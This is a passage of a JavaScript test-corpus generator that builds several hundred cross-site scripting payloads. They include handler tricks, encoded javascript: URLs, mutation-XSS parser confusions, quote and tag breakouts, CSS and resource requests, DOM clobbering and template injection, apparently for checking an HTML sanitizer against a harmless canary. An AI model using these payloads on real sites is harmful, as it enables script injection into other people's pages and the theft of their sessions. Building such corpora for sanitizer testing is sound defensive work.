// What people type to run a script in somebody else's page: several hundred payloads, made by rule.
//
// A payload says that it ran by calling `top.__ran(<id>)`, or by asking the canary for `/ran/<id>`, whichever its kind
// can do. Some run in no current browser as they stand: old tricks, what a template engine would have to run, and what
// becomes markup only once it was decoded or cleaned, which is why it is here.

/** The longest of them in characters, as long as a message may be by default. */
export const LONGEST = 1_000;

/** Every payload as `{id, kind, html}`; `canary` is `host:port` of a server that notes `/ran/<id>`. */
export function corpus(canary) {
  const all = Object.entries(KINDS).flatMap(([kind, payloads]) => payloads.map((make) => ({ kind, make })));
  return all.map(({ kind, make }, index) => ({ id: index + 1, kind, html: make(vector(index + 1, canary)) }));
}

/** What a payload is made of: `js` runs, `img` is an element that runs it, `url` is asked for. */
function vector(id, canary) {
  const js = `top.__ran(${id})`;
  return { id, js, img: `<img src=x onerror=${js}>`, url: `//${canary}/ran/${id}`, http: `http://${canary}/ran/${id}` };
}

const each = (list, make) => list.map((item) => (v) => make(item, v));
const cross = (some, others, make) => some.flatMap((one) => others.map((other) => (v) => make(one, other, v)));
const entities = (text, write) => [...text].map((char) => write(char.codePointAt(0), char)).join("");
const decimal = (text) => entities(text, (code) => `&#${code};`);
const hex = (text) => entities(text, (code) => `&#x${code.toString(16)};`);
const base64 = (text) => Buffer.from(text).toString("base64");
const PIXEL = "data:image/gif;base64,R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw==";

// ── elements and handlers ──────────────────────────────────────────────────

/** Elements whose handler runs without anybody's doing, with `§` for it. */
const BY_ITSELF = [
  "<img src=x onerror=§>",
  `<img src=${PIXEL} onload=§>`,
  "<image src=x onerror=§>",
  "<svg onload=§>",
  "<svg><image href=x onerror=§>",
  "<svg><style onload=§></style>",
  "<video src=x onerror=§></video>",
  "<video><source src=x onerror=§></video>",
  "<audio src=x onerror=§>",
  "<video onloadstart=§><source></video>",
  "<body onload=§>",
  "<body onpageshow=§>",
  "<iframe onload=§></iframe>",
  "<object data=x onerror=§></object>",
  "<object data=data:text/html, onload=§></object>",
  "<embed src=data:text/html, onload=§>",
  "<link rel=stylesheet href=data:text/css, onload=§>",
  "<link rel=stylesheet href=x onerror=§>",
  "<link rel=preload as=image href=x onerror=§>",
  "<style onload=§></style>",
  "<script src=x onerror=§></script>",
  "<script src=data:, onload=§></script>",
  "<input type=image src=x onerror=§>",
  "<details open ontoggle=§>x</details>",
  "<marquee onstart=§>x</marquee>",
  "<picture><source srcset=x><img onerror=§></picture>",
  "<video src=data:, ><track default src=x onerror=§></video>",
  "<input autofocus onfocus=§>",
  "<select autofocus onfocus=§></select>",
  "<textarea autofocus onfocus=§></textarea>",
  "<button autofocus onfocus=§>x</button>",
  "<keygen autofocus tabindex=1 onfocus=§>",
  "<a href=x autofocus onfocus=§>x</a>",
  "<p contenteditable autofocus onfocusin=§>x</p>",
  "<x-y tabindex=1 autofocus onfocus=§>x</x-y>",
  "<svg tabindex=1 autofocus onfocus=§></svg>",
  "<math tabindex=1 autofocus onfocus=§></math>",
  "<p style='content-visibility:auto' oncontentvisibilityautostatechange=§>x</p>",
  "<style>@keyframes k{}</style><p style='animation:k 1ms' onanimationend=§>x</p>",
  "<style>@keyframes k{}</style><p style='animation:k 1ms' onanimationstart=§>x</p>",
  "<svg><animate attributeName=x dur=1ms onend=§>",
  "<svg><animate attributeName=x onbegin=§>",
  "<svg><set attributeName=x onbegin=§>",
  "<svg><animateTransform attributeName=transform onbegin=§>",
  "<svg><animateMotion onbegin=§>",
  "<svg><animate attributeName=x dur=1ms repeatCount=2 onrepeat=§>",
];

const HANDLERS =
  "abort animationcancel animationiteration auxclick beforecopy beforecut beforeinput beforematch beforepaste beforetoggle " +
  "beforexrselect blur cancel canplay canplaythrough change click close command contextlost contextmenu contextrestored " +
  "copy cuechange cut dblclick drag dragend dragenter dragleave dragover dragstart drop durationchange emptied ended " +
  "formdata focusout fullscreenchange fullscreenerror gotpointercapture input invalid keydown keypress keyup loadeddata " +
  "loadedmetadata lostpointercapture mousedown mouseenter mouseleave mousemove mouseout mouseover mouseup mousewheel " +
  "paste pause play playing pointercancel pointerdown pointerenter pointerleave pointermove pointerout pointerover " +
  "pointerrawupdate pointerup progress ratechange reset resize scroll scrollend scrollsnapchange scrollsnapchanging " +
  "search securitypolicyviolation seeked seeking select selectionchange selectstart slotchange stalled submit suspend " +
  "timeupdate transitioncancel transitionend transitionrun transitionstart volumechange waiting webkitanimationend " +
  "webkitanimationstart webkitfullscreenchange webkittransitionend wheel";
const WINDOW_HANDLERS =
  "afterprint beforeprint beforeunload hashchange languagechange message messageerror offline online pagehide popstate " +
  "rejectionhandled storage unhandledrejection unload";
const TAGS =
  "a abbr address area article audio b bdi blink blockquote button canvas center dialog div em fieldset font form h1 hr " +
  "i input ins label map mark menu meter nav object ol output p pre progress q ruby s samp section select slot small " +
  "span strong sub table textarea time u ul var video wbr x-custom math svg";

const tags = TAGS.split(" ");
const handlers = [
  ...each(BY_ITSELF, (element, { js }) => element.replace("§", js)),
  ...HANDLERS.split(" ").map((name, index) => ({ js }) => `<${tags[index % tags.length]} on${name}=${js}>x`),
  ...each(WINDOW_HANDLERS.split(" "), (name, { js }) => `<body on${name}=${js}>`),
  ({ js }) => `<div popover id=p ontoggle=${js}>x</div><button popovertarget=p>x</button>`,
  ({ js }) => `<button commandfor=d command=show-modal>x</button><dialog id=d onbeforetoggle=${js}>x</dialog>`,
  ({ js }) => `<label for=i>x</label><input id=i onclick=${js}>`,
  ({ js }) => `<a onclick=${js} href=#>x</a>`,
  ({ js }) => `<select onchange=${js}><option>x</select>`,
  ({ js }) => `<form onsubmit=${js}><button>x</button></form>`,
  ({ js }) => `<form><input onfocus=${js} accesskey=x></form>`,
];

// ── how an attribute can be written ────────────────────────────────────────

/** An attribute's value `js` as browsers read it. A cleaner may read some of it otherwise. */
const WRITINGS = [
  (name, js) => ` ${name}="${js}"`,
  (name, js) => ` ${name}='${js}'`,
  (name, js) => `/${name}=${js} `,
  (name, js) => `//${name}=${js} `,
  (name, js) => `\t${name}\t=\t${js}`,
  (name, js) => `\n${name}\n=\n${js}\n`,
  (name, js) => `\f${name}\f=\f${js}`,
  (name, js) => `\r\n${name}\r=\r${js}`,
  (name, js) => ` ${name.toUpperCase()}=${js}`,
  (name, js) => ` a="1"${name}=${js}`,
  (name, js) => ` a='>'${name}=${js}`,
  (name, js) => ` a=">" b='">' ${name}=${js}`,
  (name, js) => ` < ${name}=${js}`,
  (name, js) => ` = ${name}=${js}`,
  (name, js) => ` """ ${name}=${js}`,
  (name, js) => ` ' ${name}=${js}`,
  (name, js) => ` a<b=1 ${name}=${js}`,
  (name, js) => ` ${name}="&#32;${decimal(js)}"`,
  (name, js) => ` ${name}=${decimal(js)}`,
  (name, js) => ` ${name}=${hex(js)}`,
  (name, js) => ` ${name}=${entities(js, (code) => `&#x${code.toString(16)}`)}`,
  (name, js) => ` ${name}=${entities(js, (code) => `&#0000${code};`)}`,
  (name, js) => ` ${name}=${js.replace("(", "&lpar;").replace(")", "&rpar;")}`,
  (name, js) => ` ${name}=${js.replace(".", "&period;")}`,
  (name, js) => ` ${name}=${js.replace("top", "t\\u006fp")}`,
  (name, js) => ` ${name}=${js.replace("(", "`").replace(")", "`")}`,
  (name, js) => ` ${name}=javascript:${js}`,
  (name, js) => ` ${name}=eval(atob('${base64(js)}'))`,
  (name, js) => ` ${name}=${js};//`,
  (name, js) => ` \u00A0=1 ${name}=${js}`,
  (name, js) => ` \u2003 ${name}=${js}`,
  (name, js) => ` \u202E\u2066 ${name}=${js}`,
  (name, js) => ` ${name}=${js} ${name}=1`,
];
const attributes = cross(["<img src=x§>", "<svg§>", "<details open§>x"], WRITINGS, (element, write, { js }) => {
  const name = { i: "onerror", s: "onload", d: "ontoggle" }[element[1]];
  return element.replace("§", () => write(name, js));
});

// ── addresses ──────────────────────────────────────────────────────────────

const SCHEMES = [
  (js) => `javascript:${js}`,
  (js) => `JaVaScRiPt:${js}`,
  (js) => `javascript://%0a${js}`,
  (js) => `javascript:/*x*/${js}`,
  (js) => `java\tscript:${js}`,
  (js) => `java\nscript\r:${js}`,
  (js) => ` \u0001javascript:${js}`,
  (js) => `java&#9;script:${js}`,
  (js) => `java&Tab;scr&NewLine;ipt&colon;${js}`,
  (js) => `&#1;&#32;javascript:${js}`,
  (js) => `&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116:${js}`,
  (js) => `${hex("javascript:")}${js}`,
  (js) => `&#x6A;&#0000097;vascript:${js}`,
  (js) => `javascript:${js.replace("(", "%28").replace(")", "%29")}`,
  (js) => `javascript:%74op${js.slice(3)}`,
  (js) => `javascript:"<script>${js}<\\/script>"`.replaceAll('"', "&quot;"),
];
const PLACES = [
  '<a href="§">x</a>',
  '<iframe src="§"></iframe>',
  '<form action="§"><button>x</button></form>',
  '<form><button formaction="§">x</button></form>',
  '<svg><a xlink:href="§"><text y=20>x</text></a></svg>',
  '<map><area href="§">x</map>',
  '<input type=submit form=f formaction="§"><form id=f></form>',
];
const addresses = [
  ...cross(PLACES, SCHEMES, (place, scheme, { js }) => place.replace("§", () => scheme(js))),
  ({ js }) => `<form><input type=submit formaction=javascript:${js}></form>`,
  ({ js }) => `<form><input type=image src=x formaction=javascript:${js}></form>`,
  ({ js }) => `<form id=f action=javascript:${js}></form><button form=f>x</button>`,
  ({ js }) => `<base href="javascript:/"><a href="/${js}">x</a>`,
  ({ js }) => `<embed src=javascript:${js}>`,
  ({ url }) => `<iframe src="data:text/html,<img src=http:${url}>"></iframe>`,
  ({ url }) => `<iframe src="data:text/html;base64,${base64(`<img src=http:${url}>`)}"></iframe>`,
  ({ url }) => `<iframe src="data:text/html;charset=utf-8,%3Cimg src=http:${url}%3E"></iframe>`,
  ({ url }) => `<iframe src="DATA:TEXT/HTML,<script>new Image().src='http:${url}'</script>"></iframe>`,
  ({ url }) => `<iframe src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='fetch(&quot;http:${url}&quot;)'/>"></iframe>`,
  ({ url }) => `<object data="data:text/html,<img src=http:${url}>"></object>`,
  ({ url }) => `<embed src="data:text/html,<img src=http:${url}>">`,
  ...each(["vbscript:", "livescript:", "mocha:", "feed:javascript:", "jar:javascript:", "x-javascript:"], (scheme, { js }) => `<a href="${scheme}${js}">x</a>`),
  ({ js }) => `<img src=javascript:${js}>`,
  ({ js }) => `<math href=javascript:${js}>x</math>`,
  ({ js }) => `<math><maction xlink:href=javascript:${js}>x</maction></math>`,
  ({ js }) => `[x](javascript:${js})`,
  ({ js }) => `![x](x"onerror="${js})`,
  ({ js }) => `<https://example.org/"onmouseover="${js}>`,
  ({ js }) => `https://example.org/"onmouseover="${js}"`,
  ({ js }) => `javascript:${js}`,
];

// ── parsers that disagree ──────────────────────────────────────────────────

const RAW = ["title", "textarea", "style", "xmp", "noembed", "noframes", "noscript", "iframe", "script"];
/** Where foreign content begins or ends, so that what follows is read in another way the second time. */
const BORDERS = ["<svg></p>", "<svg><p>", "<math></br>", "<math><mtext><table><mglyph>", "<math><mtext></mtext>", "<svg><desc><table><a>", "<svg><foreignObject><math>", "<table><svg><title>", "<form><math><mi></form><form>", "<select><svg>"];
const mutation = [
  ...cross(BORDERS, ["style", "title", "xmp", "noscript"], (border, tag, { js }) => `${border}<${tag}><i title="</${tag}><img src=x onerror=${js}>">`),
  ...each(BORDERS, (border, { js }) => `${border}<style><!--</style><i title="--&gt;&lt;img src=x onerror=${js}&gt;">`),
  ...each(RAW, (tag, { js }) => `<${tag}><a title="</${tag}><img src=x onerror=${js}>">`),
  ...each(RAW, (tag, { js }) => `<${tag}><!--</${tag}><img src=x onerror=${js}>-->`),
  ...each(RAW, (tag, { img }) => `<svg><${tag}><g title="</${tag}>${img}">`),
  ...each(["title", "desc", "foreignObject"], (tag, { img }) => `<svg><${tag}>${img}`),
  ...each(["mi", "mo", "mn", "ms", "mtext"], (tag, { img }) => `<math><${tag}>${img}`),
  ...each(["b", "p", "div", "h1", "table", "ul", "span"], (tag, { img }) => `<svg><style></${tag}><${tag}>${img}`),
  ({ img }) => `<math><annotation-xml encoding=text/html>${img}`,
  ({ img }) => `<table><tr><td><table>${img}</table></td></tr>${img}</table>`,
  ({ img }) => `<table><caption><svg><desc>${img}</table>`,
  ({ img }) => `<select><option>${img}</select>${img}`,
  ({ img }) => `<select><svg></select>${img}`,
  ({ img }) => `<select><template><style></select>${img}</style>`,
  ({ img }) => `<form><div></form><form>${img}</div></form>`,
  ({ img }) => `<a><a><b></a>${img}<i></b></i>`,
  ({ img }) => `<button><button>${img}</button>`,
  ({ img }) => `<nobr><nobr>${img}`,
  ({ img }) => `<frameset></frameset>${img}`,
  ({ img }) => `<head><title></head>x</title>${img}`,
  ({ img }) => `</html></body>${img}`,
  ({ img }) => `</p>${img}</br>`,
  ({ img }) => `<!-->${img}-->`,
  ({ img }) => `<!--->${img}-->`,
  ({ img }) => `<!--x--!>${img}-->`,
  ({ img }) => `<!-- -- --!>${img}`,
  ({ img }) => `<!--<!--> -->${img}`,
  ({ img }) => `<!x>${img}`,
  ({ img }) => `<!>${img}`,
  ({ img }) => `<?x ">${img}"?>`,
  ({ img }) => `<?>${img}`,
  ({ img }) => `<?xml version="1.0"?>${img}`,
  ({ img }) => `</ x>${img}`,
  ({ img }) => `</!>${img}`,
  ({ img }) => `<%x>${img}%>`,
  ({ img }) => `<![CDATA[>${img}]]>`,
  ({ img }) => `<![CDATA[x]]>${img}`,
  ({ img }) => `<svg><![CDATA[</svg>${img}]]></svg>${img}`,
  ({ img }) => `<svg><![CDATA[><title>${img}]]>`,
  ({ img }) => `<svg><desc><![CDATA[</desc>${img}]]>`,
  ({ img }) => `<!DOCTYPE html [<!ENTITY x "">]>${img}`,
  ({ img }) => `<![if IE]>${img}<![endif]>`,
  ({ img }) => `<!--[if IE]>${img}<![endif]-->`,
  ({ img }) => `<plaintext>${img}`,
  ({ img }) => `<listing>&lt;img${img.slice(4, -1)}&gt;</listing>`,
  ({ img }) => `<xmp>${img}</xmp>`,
  ({ js }) => `<img alt="\`\`onerror=${js}//" src=x>`,
  ({ js }) => `<x alt="&lt;img src=x onerror=${js}&gt;"></x>`,
];

// ── markup that is not whole ───────────────────────────────────────────────

const SEPARATORS = ["\t", "\n", "\f", "\r", "/", " / ", "//", "\n\t\r\f "];
const UNSEEN = ["\0", "\u0001", "\u001F", "\u007F", "\u00AD", "\u200B", "\u200D", "\u200E", "\u2060", "\u202E", "\u2066", "\uFEFF", "\uFE0F", "\u{E0041}", "\u180E", "\u3164"];
const broken = [
  ...each(SEPARATORS, (separator, { js }) => `<img${separator}src=x${separator}onerror=${js}${separator.replace(/^\/.*/, " ")}>`),
  ...each(UNSEEN, (char, { js }) => `<im${char}g src=x onerror=${js}>`),
  ...each(UNSEEN, (char, { js }) => `<${char}svg onload=${js}>`),
  ...each(UNSEEN.slice(0, 6), (char, { js }) => `<img src=x on${char}error=${js}>`),
  ...each(["\u00A0", "\u1680", "\u2003", "\u2028", "\u3000", "\u0085", "\v"], (space, { js }) => `<img${space}src=x onerror=${js}>`),
  ({ img }) => `\uFEFF${img}`,
  ({ img }) => `<<<${img}`,
  ({ img }) => `<>${img}`,
  ({ img }) => `1<2 ${img}`,
  ({ img }) => `<a <b>${img}`,
  ({ js }) => `<img src=\`x\` onerror=${js}>`,
  ({ js }) => `<img src=x onerror="${js}"'>'>`,
  ({ js }) => `<img """ '' src=x onerror=${js}>`,
  ({ js }) => `<img src=x onerror=${js} <b>`,
  ({ js }) => `<svg onload=${js}//>`,
  ({ js }) => `<img src=x onerror=${js}//<b>`,
  ({ js }) => `<img src=x:x onerror\n=\n"${js}"\n>`,
  ({ js }) => `<img src='x'onerror='${js}'>`,
  ({ js }) => `<img src=x onerror =${js}>`,
  ({ js }) => `<IMG SRC=x ONERROR=${js}>`,
  ({ js }) => `<İmg src=x><img src=x onerror=${js}>`,
  ({ js }) => `<svg\fonload=${js}\f/>`,
  ({ js }) => `<x:y onclick=${js}>x</x:y>`,
  ({ js }) => `<x.y onclick=${js}>x`,
  ({ js }) => `<x_y onclick=${js}>x`,
  ({ js }) => `<x@y onclick=${js}>x`,
  ({ js }) => `<xé onclick=${js}>x`,
  ({ js }) => `<h👍 onclick=${js}>x`,
  ({ js }) => `<scr<script>ipt>${js}</scr</script>ipt><scrip<b>t>`,
  ({ js }) => `<scr<b>ipt>${js}</scr</b>ipt>`,
  ({ js }) => `<scr<!-- -->ipt>${js}</scr<!-- -->ipt>`,
  ({ js }) => `<im<b>g src=x onerror=${js}>`,
  ({ js }) => `<<b>img src=x onerror=${js}>`,
  ({ js }) => `<<!-- -->img src=x onerror=${js}>`,
  ({ js }) => `<<script></script>img src=x onerror=${js}>`,
  ({ js }) => `<<?x?>svg onload=${js}>`,
  ({ js }) => `&<b>lt;img src=x onerror=${js}&<b>gt;`,
  ({ js }) => `< img src=x onerror=${js}>`,
  ({ js }) => `<\nsvg onload=${js}>`,
  ({ js }) => `＜img src=x onerror=${js}＞`,
  ({ js }) => `﹤img src=x onerror=${js}﹥`,
  ({ js }) => `‹img src=x onerror=${js}›`,
  ({ js }) => `+ADw-img src=x onerror=${js}+AD4-`,
  ({ js }) => `\u00C0\u00BCimg src=x onerror=${js}\u00C0\u00BE`,
  ({ js }) => `%3Cimg src=x onerror=${js}%3E`,
  ({ js }) => `%253Cimg src=x onerror=${js}%253E`,
  ({ js }) => `%u003Cimg src=x onerror=${js}%u003E`,
  ({ js }) => `\\u003Cimg src=x onerror=${js}\\u003E`,
  ({ js }) => `\\x3Cimg src=x onerror=${js}\\x3E`,
  ({ js }) => `\\74img src=x onerror=${js}\\76`,
];

// ── references ─────────────────────────────────────────────────────────────

const LESS = ["&lt;", "&lt", "&LT;", "&LT", "&#60;", "&#60", "&#060;", "&#0000060;", "&#00000000060;", "&#x3c;", "&#x3C", "&#X3c;", "&#x0003c;", "&amp;lt;", "&amp;amp;lt;", "&amp;#60;", "&amp;#x3c;", "&#38;lt;", "&#x26;lt;", "&#38;#60;", "&ampLt;", "&lt\u200B;", "&\u0000lt;", "&#6\u200B0;", "&l<b>t;"];
const references = [
  ...each(LESS, (less, { js }) => `${less}img src=x onerror=${js}>`),
  ...each(LESS, (less, { js }) => `${less}script>${js}${less}/script>`),
  ({ js }) => `&lt;img src=x onerror=${js}&gt;`,
  ({ js }) => `${decimal("<svg onload=")}${js}${decimal(">")}`,
  ({ js }) => `&quot;&gt;&lt;svg onload=${js}&gt;`,
  ({ js }) => `&#8238;&#0;&lt;img src=x onerror=${js}&gt;&#8203;`,
];

// ── out of where it was put ────────────────────────────────────────────────

const CLOSERS = ['">', "'>", ">", '"/>', "</title>", "</textarea>", "</style>", "</script>", "</xmp>", "</noscript>", "</iframe>", "</template>", "</select>", "</svg>", "</math>", "-->", "--!>", "]]>", "*/", "\\\"`>"];
const breakouts = [
  ...each(CLOSERS, (closer, { img }) => `${closer}${img}`),
  ...each(['" ', "' ", "` ", '"', "\\\" ", "&quot; "], (quote, { js }) => `${quote}onmouseover=${js} autofocus onfocus=${js} x=${quote}`),
  ...each(["';§//", '";§//', "`;§//", "\\';§//", "-§-", "\u2028§//", "${§}", "*/§/*", "]}'§//"], (text, { js }) => text.replace("§", js)),
  ({ js }) => `</script><script>${js}</script>`,
  ({ js, img }) => `"'><svg onload=${js}><!--'">${img}`,
  ({ js }) => `x'/*"/*\`/*</title></style></textarea></script>--><svg tabindex=1 autofocus onfocus='*/${js}/*' onload="*/${js}//">`,
  ({ js }) => `-->]]>"'*/;</noscript></title></textarea></style></template></script><details/open/ontoggle=${js}>{{1}}`,
  ({ js }) => `\`"'><img src=x onerror=${js}//\${\`/*</script>*/`,
  ({ js }) => `0"autofocus/onfocus=${js}><input autofocus onfocus=${js}><!--`,
  ({ js, url }) => `<a href="javascript:${js}" title='"><img src=${url}>'>x</a>`,
];

// ── style sheets, requests, what is left open ──────────────────────────────

const STYLES = [
  "<style>@import '$';</style>",
  "<style>@import url($);</style>",
  "<style>@IMPORT/**/url('$')</style>",
  '<style>@import url("data:text/css,@import%20url(http:$)")</style>',
  "<style>*{background:url($)}</style>",
  "<style>body{list-style:url($);display:list-item}</style>",
  "<style>body::before{content:url($)}</style>",
  "<style>@font-face{font-family:f;src:url($)}*{font-family:f}</style>x",
  "<style>@namespace x'';*{border-image:url($) 1;border:1px solid}</style>",
  "<style><!--*{background:url($)}--></style>",
  "<svg><style>*{background:url($)}</style></svg>",
  "<p style=background:url($)>x</p>",
  "<p style='background:\\75rl($)'>x</p>",
  "<p style='background:image-set(\"$\" 1x)'>x</p>",
  "<p style='display:list-item;list-style-image:url($)'>x</p>",
  "<p style='mask-image:url($)'>x</p>",
  "<p style='cursor:url($),auto;background:url($)'>x</p>",
  "<p style='--u:url($);background:var(--u)'>x</p>",
  "<p style=\"background:url(&quot;$&quot;)\">x</p>",
  "<link rel=stylesheet href=$>",
  "<link rel=STYLESHEET href=$ media=all>",
];
const OLD_STYLES = [
  "<p style='width:expression(§)'>x</p>",
  "<p style='width:expr/**/ession(§)'>x</p>",
  "<p style='x:\\65xpression(§)'>x</p>",
  "<p style='-moz-binding:url(javascript:§)'>x</p>",
  "<p style='behavior:url(javascript:§)'>x</p>",
  "<style>*{background:url(javascript:§)}</style>",
  "<style>@import 'javascript:§'</style>",
];
const styles = [
  ...each(STYLES, (text, { url }) => text.replaceAll("$", url)),
  ...each(OLD_STYLES, (text, { js }) => text.replace("§", js)),
];

const ASKS = [
  "<img src=$>",
  "<img src='$?",
  '<img src="$?',
  "<img srcset=$>",
  "<img srcset='x 9x, $ 1x'>",
  "<img src=x srcset='$ 1x'>",
  "<picture><source srcset=$><img></picture>",
  "<input type=image src=$>",
  "<video src=$>",
  "<video poster=$>",
  "<video><source src=$></video>",
  "<audio src=$ autoplay>",
  "<video controls><track default kind=metadata src=$></video>",
  "<iframe src=$></iframe>",
  "<iframe src='$?",
  "<object data=$></object>",
  "<embed src=$>",
  "<frameset><frame src=$></frameset>",
  "<body background=$>",
  "<table background=$><tr><td>x</table>",
  "<table><td background=$>x</table>",
  "<svg><image href=$ width=9 height=9>",
  "<svg><image xlink:href=$ width=9 height=9>",
  "<svg width=9 height=9><filter id=f><feImage href=$ /></filter><rect width=9 height=9 filter=url(#f)>",
  "<svg><script href=$></script>",
  "<script src=$></script>",
  "<script src='$?x",
  "<script type=module src=$></script>",
  "<script type=module>import '$'</script>",
  '<script type=importmap>{"imports":{"x":"$"}}</script><script type=module>import "x"</script>',
  "<script type=speculationrules>{\"prefetch\":[{\"source\":\"list\",\"urls\":[\"$\"]}]}</script>",
  "<link rel=icon href=$>",
  "<link rel=preload as=image href=$>",
  "<link rel=preload as=fetch crossorigin href=$>",
  "<link rel=modulepreload href=$>",
  "<link rel=prefetch href=$>",
  "<link rel=manifest href=$>",
  "<link rel=dns-prefetch href=$>",
  "<meta http-equiv=refresh content='0;url=$'>",
  "<meta http-equiv=refresh content=\"0;URL='$'\">",
  "<meta http-equiv=REFRESH content=0;$>",
  "<base href=$/><img src=x>",
  "<a href=$>x</a>",
  "<a href='$?",
  "<a href=# ping=$>x</a>",
  "<area href=$>",
  "<form action=$><button>x</button></form>",
  "<form action=$ method=post><input type=submit></form>",
  "<form><button formaction=$>x</button></form>",
  "<form action='$?'><textarea name=t>",
  "<button form=f formaction=$>x</button><form id=f></form>",
  "<isindex action=$>",
  "<bgsound src=$>",
  "<portal src=$></portal>",
  "<applet code=$></applet>",
  "<img lowsrc=$ dynsrc=$>",
  "<html manifest=$>",
  "<ilayer src=$></ilayer>",
  "<svg><use href=$#x>",
  "<xml src=$>",
  "<fencedframe src=$></fencedframe>",
];
const requests = each(ASKS, (text, { http }) => text.replaceAll("$", http));

// ── names that a page's own script may take for its own ───────────────────

const clobber = [
  ({ id, http }) => `<a id=global_${id} href=${http}>x</a>`,
  ({ id, http }) => `<a id=global_${id}></a><a id=global_${id} name=url href=${http}>x</a>`,
  ({ id, http }) => `<form id=global_${id}><input name=url value=${http}></form>`,
  ({ id, http }) => `<form name=global_${id} action=${http}></form>`,
  ({ id, http }) => `<img name=global_${id} src=data:, alt=${http}>`,
  ({ id }) => `<embed name=global_${id}>`,
  ({ id }) => `<object id=global_${id}></object>`,
  ({ id }) => `<iframe name=global_${id} srcdoc=x></iframe>`,
  ({ id }) => `<x-y id=global_${id}></x-y>`,
  ({ id }) => `<svg id=global_${id}></svg>`,
];

// ── templates, components, frames, SVG, scripts ────────────────────────────

const TEMPLATES = ["{{§}}", "{{constructor.constructor('§')()}}", "{{{§}}}", "{%§%}", "{%raw%}§", "${§}", "`${§}`", "#{§}", "*{§}", "@{§}", "@(§)", "[[§]]", "[(§)]", "<%= § %>", "<%- § %>", "<? § ?>", "<#§>", "$$\\href{javascript:§}{x}$$", "\\unicode{<img src=x onerror=§>}"];
const DIRECTIVES = ["ng-app ng-init=§", "ng-app ng-on-click=§", "v-on:click=§", "@click=§", "v-html=§", "x-data x-init=§", "hx-on:click=§", "hx-get=javascript:§", "data-bind=click:§", "(click)=§", "on:click={§}", "data-onclick=§", "formaction=javascript:§", "_=§"];
const templates = [...TEMPLATES, ...DIRECTIVES.map((directive) => `<b ${directive}>x</b>`)].map((text) => ({ js }) => text.replace("§", () => js));

const components = [
  ({ img }) => `<div><template shadowrootmode=open>${img}</template></div>`,
  ({ img }) => `<div><template shadowrootmode=closed>${img}<slot></template>x</div>`,
  ({ img }) => `<x-y><template shadowrootmode=open shadowrootclonable>${img}</template></x-y>`,
  ({ js }) => `<b is=x-y onclick=${js}>x</b>`,
  ({ js }) => `<x-y onclick=${js}>x</x-y>`,
  ({ js }) => `<slot name=x onclick=${js}>x</slot>`,
  ({ js }) => `<dialog open onclick=${js}>x</dialog>`,
  ({ js }) => `<dialog open><form method=dialog><button onclick=${js}>x`,
  ({ js }) => `<details><summary onclick=${js}>x</summary></details>`,
  ({ js }) => `<details name=d ontoggle=${js}><summary>x</summary></details>`,
  ({ js }) => `<button popovertarget=p popovertargetaction=show>x</button><p id=p popover=manual onbeforetoggle=${js}>x`,
  ({ js }) => `<search onclick=${js}>x</search>`,
  ({ js }) => `<fieldset><legend onclick=${js}>x`,
  ({ img }) => `<template>${img}</template>`,
  ({ img }) => `<template><template>${img}</template></template>`,
  ({ js }) => `<menu type=context><menuitem onclick=${js} label=x>`,
];

const inAttribute = (html) => html.replaceAll("&", "&amp;").replaceAll('"', "&quot;");
const frames = [
  ({ img }) => `<iframe srcdoc="${inAttribute(img)}"></iframe>`,
  ({ js }) => `<iframe srcdoc='<script>${js}</script>'></iframe>`,
  ({ js }) => `<iframe srcdoc=&lt;script&gt;${js}&lt;/script&gt;></iframe>`,
  ({ js }) => `<iframe srcdoc="&#60;svg onload=${js}&#62;"></iframe>`,
  ({ js }) => `<iframe srcdoc="${decimal(`<svg onload=${js}>`)}"></iframe>`,
  ({ js }) => `<iframe srcdoc="<iframe srcdoc='&lt;svg onload=${js}&gt;'></iframe>"></iframe>`,
  ({ js }) => `<iframe srcdoc="x" src="x" onload="${js}"></iframe>`,
  ({ http }) => `<iframe sandbox=allow-scripts srcdoc="<script>new Image().src='${http}'</script>"></iframe>`,
  ({ http }) => `<iframe sandbox srcdoc="<img src=${http}>"></iframe>`,
  ({ js }) => `<iframe src=about:blank name="${js}" onload=eval(name)></iframe>`,
  ({ js }) => `<svg><foreignObject><iframe srcdoc="<svg onload=${js}>">`,
  ({ js }) => `<noembed></noembed><iframe src="javascript:'<img src=x onerror=${js}>'"></iframe>`,
];

const svg = [
  ({ js }) => `<svg><script>${js}</script></svg>`,
  ({ js }) => `<svg><script>${decimal(js)}</script></svg>`,
  ({ js }) => `<svg><script><![CDATA[${js}]]></script></svg>`,
  ({ js }) => `<svg><script><!--x-->${js.replace("(", "&lpar;")}</script></svg>`,
  ({ js }) => `<svg><script href="data:text/javascript,${js}"></script></svg>`,
  ({ js }) => `<svg><script xlink:href="data:,${js}"></script></svg>`,
  ({ js }) => `<svg><a href=javascript:${js}><text y=20>x</text></a>`,
  ({ js }) => `<svg><a><animate attributeName=href values=javascript:${js} /><text y=20>x</text></a>`,
  ({ js }) => `<svg><a><set attributeName=href to=javascript:${js} /><text y=20>x</text></a>`,
  ({ js }) => `<svg><a><animate attributeName=xlink:href values=;javascript:${js} begin=0s end=0s fill=freeze /><text y=20>x</text></a>`,
  ({ js }) => `<svg><g onclick=${js}><text y=20>x`,
  ({ js }) => `<svg><foreignObject><div onclick=${js}>x`,
  ({ img }) => `<svg><switch><foreignObject>${img}`,
  ({ js }) => `<svg><discard onbegin=${js}></svg>`,
  ({ js }) => `<svg xmlns:x=http://www.w3.org/1999/xlink><a x:href=# xlink:href=javascript:${js}><text y=20>x`,
  ({ js }) => `<svg><set attributeName=onclick to=${js}><rect onclick=x>`,
  ({ js }) => `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>${js}</script></svg>#x">`,
  ({ js }) => `<svg><handler xmlns:ev=http://www.w3.org/2001/xml-events ev:event=load>${js}</handler>`,
  ({ js }) => `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${js}</x:script>`,
];

const scripts = [
  ...each(["<script>", "<ScRiPt>", "<script\n>", "<script/x>", "<script\tx=1>", "<script type=module>", "<script async>", "<script defer>", "<script type=text/javascript>", "<script type=''>", "<script language=javascript>", "<script charset=utf-7>", "<script nonce=x>"], (open, { js }) => `${open}${js}</script>`),
  ...each(["</script >", "</script\n>", "</script/x>", "</SCRIPT>", "</script x='>'>"], (close, { js }) => `<script>${js}${close}x`),
  ({ js }) => `<script>/*<!--*/${js}/*-->*/</script>`,
  ({ js }) => `<script><!--\n${js}\n--></script>`,
